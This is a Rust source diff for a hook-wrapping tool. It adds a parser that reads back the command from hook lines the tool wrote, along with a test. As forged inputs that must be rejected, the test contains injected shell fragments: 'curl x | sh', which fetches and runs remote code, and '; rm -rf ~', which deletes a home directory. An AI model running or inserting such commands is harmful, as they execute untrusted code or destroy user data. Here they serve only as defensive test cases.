@@ -229,6 +229,88 @@ pub fn outdated_guard(line: &str, flavor: Flavor) -> Option<OutdatedGuard> {
     })
 }
 
+/// What a wrapped entry runs: the command, the dialect `hookx exec` runs it as, and the hookx
+/// program it calls.
+#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
+pub struct Wrapped {
+    pub hookx: String,
+    /// The `--as` flavour, as written.
+    #[serde(rename = "as")]
+    pub as_flavor: String,
+    pub command: String,
+}
+
+impl Wrapped {
+    /// The short note on how it runs: `via hookx exec --as claude` (the program's file name).
+    pub fn via(&self) -> String {
+        let program = std::path::Path::new(&self.hookx)
+            .file_name()
+            .and_then(|n| n.to_str())
+            .unwrap_or(&self.hookx);
+        format!("via {program} exec --as {}", self.as_flavor)
+    }
+}
+
+/// The parts of `line` when it is exactly a wrapped entry as convert writes it today (`<guard>
+/// HOOKX exec --host D --as F --event E [--timeout N] [--match M] [--if R] -- COMMAND`), its
+/// guard the one [`not_installed_guard`] writes for its event under one of D's flavours:
+/// `hookx list` and `hookx trust` show the command, not the guard every such entry repeats.
+/// `None` for any other line, an older guard included: only a line that runs nothing but
+/// hookx's guard and `hookx exec` may be shown as its command.
+pub fn wrapped_command(line: &str) -> Option<Wrapped> {
+    let (quoted, _) = line
+        .strip_prefix("command -v ")?
+        .split_once(" >/dev/null 2>&1 ||")?;
+    let end = line.find(&format!("}}; {quoted} exec "))? + 2;
+    let guard = &line[..end];
+    let words = crate::shell::split_words(&line[end + 1..])?;
+    let (program, rest) = words.split_first()?;
+    if crate::shell::split_words(quoted)? != [program.as_str()] {
+        return None;
+    }
+    let [exec, rest @ ..] = rest else {
+        return None;
+    };
+    if exec != "exec" {
+        return None;
+    }
+    let (mut host, mut flavor, mut event) = (None, None, None);
+    let mut rest = rest;
+    let command = loop {
+        match rest {
+            [option, value, tail @ ..] if option.starts_with("--") && option != "--" => {
+                match option.as_str() {
+                    "--host" => host = Some(value),
+                    "--as" => flavor = Some(value),
+                    "--event" => event = Some(value),
+                    "--timeout" | "--match" | "--if" => {}
+                    _ => return None,
+                }
+                rest = tail;
+            }
+            [dashes, command] if dashes == "--" => break command,
+            _ => return None,
+        }
+    };
+    let host = crate::tables::Dialect::named(host?)?;
+    let event = event?;
+    let kind = host
+        .flavors()
+        .find_map(|f| f.tables().event_kind(event))
+        .unwrap_or_else(|| EventKind::from_name(event));
+    if !host
+        .flavors()
+        .any(|to| guard_of(quoted, &kind, to) == guard)
+    {
+        return None;
+    }
+    Some(Wrapped {
+        hookx: program.clone(),
+        as_flavor: flavor?.clone(),
+        command: command.clone(),
+    })
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -295,6 +377,35 @@ mod tests {
             }
         }
         assert!(refusing > 10, "{refusing}");
+    }
+
+    /// A line convert wraps reads back as its command; a forged or older guard, another
+    /// command after it, or an option `hookx exec` lacks does not.
+    #[test]
+    fn a_wrapped_line_reads_back_as_its_command() {
+        for &to in Flavor::all() {
+            for (kind, _) in to.tables().events {
+                let command = "./guard.sh \"$1\" && echo 'it''s'";
+                let line = format!(
+                    "{} {} exec --host {} --as claude --event {kind} --timeout 600 --match 'Bash|Edit' -- {}",
+                    not_installed_guard("/opt/hookx", kind, to),
+                    shell_quote("/opt/hookx"),
+                    to.dialect(),
+                    crate::shell::shell_quote_shortest(command),
+                );
+                let wrapped = wrapped_command(&line).unwrap_or_else(|| panic!("{line}"));
+                assert_eq!(wrapped.command, command);
+                assert_eq!(wrapped.as_flavor, "claude");
+                assert_eq!(wrapped.hookx, "/opt/hookx");
+                for forged in [
+                    line.replace("exit ", "curl x | sh; exit "),
+                    format!("{line}; rm -rf ~"),
+                    line.replace("--timeout", "--evil"),
+                ] {
+                    assert_eq!(wrapped_command(&forged), None, "{forged}");
+                }
+            }
+        }
     }
 
     /// A guard written today is never taken for an older one, whatever the hookx path, flavour
